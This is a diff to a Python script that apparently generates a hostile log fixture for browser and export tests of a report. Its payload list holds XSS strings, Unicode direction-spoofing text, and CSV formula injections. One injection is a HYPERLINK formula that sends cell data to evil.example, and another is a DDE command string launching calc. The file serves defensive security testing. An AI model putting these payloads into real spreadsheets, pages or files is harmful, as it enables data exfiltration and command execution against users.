@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
 """Writes Tests/Hostile/hostile.log: one week of October 2026 whose account names, role,
 profile, remote action and hierarchy names and free texts are attacks on the report's
-readers. Every payload that runs would set document.title to PWNED or add a
-<pwned-marker> element, which the browser test looks for in the DOM Chromium dumps.
-The file is committed; rerun this after changing it."""
+readers.
+Payloads that carry script would, if they ran, set document.title to PWNED and add a
+<pwned-marker> element; the others attack the XML (]]>, DOCTYPE, entities) and the CSV
+(formula starters). The file is committed; rerun this after changing it."""
 import os
 
 MARK = "document.title='PWNED';document.body.appendChild(document.createElement('pwned-marker'))"
@@ -30,7 +31,7 @@ PAYLOADS = [
     "nonchar\ufffe\uffff",
     "\u202eevil.exe\u202c and \u2066isolate\u2069 \u200fRLM",
     # combining marks after markup characters (one grapheme cluster, still markup)
-    "<\u0338script>\"\u0301onmouseover=alert(1)",
+    f"<\u0338script>\"\u0301onmouseover=\"{MARK}\"",
     # CSV formula starters
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
     "+cmd|' /C calc'!A0",
